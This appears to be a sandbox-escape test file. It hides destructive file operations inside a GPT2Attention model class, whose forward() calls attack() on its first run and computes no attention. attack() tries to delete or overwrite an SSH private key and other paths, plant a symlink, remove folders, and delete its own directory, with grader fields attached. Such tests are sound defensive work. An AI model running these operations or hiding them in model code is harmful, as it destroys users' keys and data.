# Tries: to remove and to rename what is outside, its own folder too.
# Holds: Nothing outside its own folder changes, and that folder is gone afterwards.
# Verdict: fail
# Says: held
import os
import shutil

from max.experimental.nn import Linear, Module


def attempt(what, deed):
    try:
        print("BROKE", what, repr(deed())[:200])
    except BaseException as error:
        print("held", what, type(error).__name__)


DONE = []


def attack():
    for path in ("@HOME@/.ssh/id_rsa", "@OTHER@"):
        attempt("remove", lambda: os.remove(path))
        attempt("rename", lambda: os.rename(path, "mine"))
        attempt("replace", lambda: os.replace("/proc/self/status", path))
    attempt("link", lambda: os.symlink("mine", "@ROOT@/steps/hostile-none.py"))
    attempt("tree", lambda: shutil.rmtree("@ARENA@/others"))
    attempt("own folder", lambda: os.rename(os.getcwd(), os.getcwd() + "-moved"))
    attempt("own folder", lambda: os.rmdir(os.getcwd()))


class GPT2Attention(Module):
    def __init__(self, config):
        super().__init__()
        self.embed_dim, self.num_heads = config.n_embd, config.n_head
        self.head_dim = config.n_embd // config.n_head
        self.c_attn = Linear(config.n_embd, 3 * config.n_embd, bias=True)
        self.c_proj = Linear(config.n_embd, config.n_embd, bias=True)

    def forward(self, hidden_states):
        if not DONE:
            DONE.append(1)
            attack()
        return hidden_states
